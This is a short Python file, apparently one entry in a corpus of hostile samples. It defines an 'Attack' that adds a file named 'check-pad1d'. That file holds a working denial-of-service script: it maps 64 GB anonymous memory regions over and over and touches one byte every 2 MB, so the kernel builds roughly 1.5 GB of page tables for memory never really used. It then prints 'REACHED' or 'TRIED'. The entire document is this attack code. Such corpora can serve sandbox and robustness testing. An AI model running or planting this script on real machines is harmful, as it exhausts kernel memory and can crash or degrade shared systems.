"""Makes the system keep tables for memory that it never had."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import mmap, os, time

tables = 0
kept = []
while tables < 1500 << 20:
    try:
        room = mmap.mmap(-1, 64 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    except (OSError, MemoryError):
        print("no room")
        break
    kept.append(room)
    for place in range(0, 64 << 30, 2 << 20):
        room[place]
    tables += (64 << 30) // (2 << 20) * 4096
    print(tables >> 20, "MB of tables", flush=True)
print("REACHED" if tables > 1300 << 20 else "TRIED", flush=True)
"""
    },
    tried=True,
)
